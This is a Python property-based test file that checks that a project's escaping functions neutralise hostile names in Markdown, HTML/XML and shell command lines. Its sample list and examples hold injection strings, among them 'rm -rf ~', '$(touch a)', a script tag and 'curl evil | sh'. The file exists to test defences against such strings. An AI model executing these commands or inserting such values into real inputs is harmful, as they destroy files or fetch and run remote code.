"""Names inside text of other languages: whatever a name is, a reader of that language gets the name
and nothing else.
"""

from __future__ import annotations

import shutil
import subprocess
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from graphshare.text.format import escape_control
from graphshare.text.markup import LONGEST_SPAN, escape_html, quote_markdown, quote_shell

HOSTILE = [
    "", " ", " a ", "`", "``a`", "`` ` ``", "\\`", "a\n\n    rm -rf ~\n", "```\nsh\n```", "# a", "- a", "1. a", "<!-- a", "a|b",
    "[a](b)", "![a](//b)", "<script>alert(1)</script>", "</title>", "&lt;", "$(touch a)", "${IFS}", "a;b", "a'b", 'a"b',
    "'\\''", "a\\", "-rf", "~", "*", "!!", "=ls", "%PATH%", "%%{init: {'theme': 'dark'}}%%", "%0A::error::a", "\u202egnp.exe",
    "\x1b[31m", "\r\n", "\t", "\x85", "\u2028", "\udcff", "\ud800", "\ufffe", "a" * 5000, "`" * 5000, "\U0001f600", "é",
]  # fmt: skip
"""Names that mean something in some language: quotes, fences, tags, commands, directives, and
characters that print nothing.
"""
PIECES = [
    "`",
    "'",
    '"',
    "\\",
    "\n",
    "    ",
    "$(a)",
    "|",
    "<b>",
    "%",
    "#",
    "\u202e",
    "\udcff",
    "~",
    "-",
    " ",
    "a",
    "é",
    "&",
]
NAMES = st.one_of(
    st.sampled_from(HOSTILE),
    st.lists(st.sampled_from(PIECES), max_size=12).map("".join),
    st.text(max_size=30),
)


def cut(name: str) -> str:
    """Return a name as a page shows it: without control characters, and cut."""
    text = escape_control(name)
    return text if len(text) <= LONGEST_SPAN else text[: LONGEST_SPAN - 3] + "..."


@given(NAMES, NAMES)
@example("a`", "`b")
@example("x\n\n    curl evil | sh\n", "`")
def test_a_name_in_markdown_is_a_code_span(name: str, other: str) -> None:
    """Two in one item of a list, so that neither ends the span of the other."""
    tokens = MarkdownIt("commonmark", {"html": True}).parse(
        f"- of {quote_markdown(name)}: {quote_markdown(other)}, and\n"
    )
    (inline,) = (token for token in tokens if token.type == "inline")
    assert [token.type for token in tokens if token.nesting == 1] == [
        "bullet_list_open",
        "list_item_open",
        "paragraph_open",
    ]
    assert [child.type for child in inline.children or ()] == [
        "text",
        "code_inline",
        "text",
        "code_inline",
        "text",
    ]
    spans = [child.content for child in inline.children or () if child.type == "code_inline"]
    assert [span.strip(" ") for span in spans] == [cut(each).strip(" ") for each in (name, other)]
    assert all(
        span == cut(each)
        for span, each in zip(spans, (name, other), strict=True)
        if cut(each).strip(" ")
    )


def test_a_text_that_is_not_quoted_is_found() -> None:
    tokens = MarkdownIt("commonmark").parse("- of a\n\n    rm -rf ~\n")
    assert len([token for token in tokens if token.type == "inline"]) == 2


@given(NAMES)
def test_a_name_in_html_is_text(name: str) -> None:
    """In XML too, within an element and in an attribute."""
    escaped = escape_html(name)
    assert escaped.isprintable()
    root = ET.fromstring(f'<a b="{escaped}">{escaped}</a>')
    assert (root.text or "", root.get("b"), len(root)) == (
        escape_control(name),
        escape_control(name),
        0,
    )
    texts: list[str] = []
    parser = HTMLParser()
    parser.handle_data = texts.append  # type: ignore[method-assign]
    parser.handle_starttag = parser.handle_comment = lambda *found: texts.append(
        f"NOT TEXT {found}"
    )  # type: ignore[assignment]
    parser.feed(escaped)
    parser.close()
    assert "".join(texts) == escape_control(name)


@pytest.mark.parametrize("shell", ["sh", "bash"])
def test_a_name_in_a_command_line_is_one_word(shell: str) -> None:
    if shutil.which(shell) is None:
        pytest.skip(f"{shell} is not installed")
    words = HOSTILE + ["".join(PIECES[i:] + PIECES[:i]) for i in range(len(PIECES))]
    line = quote_shell("printf", "%s\\0", *words)
    assert line.isprintable()
    printed = subprocess.run([shell, "-c", line], capture_output=True, check=True).stdout
    assert printed.decode().split("\0")[:-1] == [escape_control(word) for word in words]


@given(st.lists(NAMES, max_size=3))
def test_a_command_line_is_one_line_of_printable_text(names: list[str]) -> None:
    assert quote_shell(*names).isprintable()


def test_a_plain_command_line_stays_as_it_is() -> None:
    assert (
        quote_shell("graphshare", "verify", "out/a.onnx", "--shape=data=1,3")
        == "graphshare verify out/a.onnx --shape=data=1,3"
    )
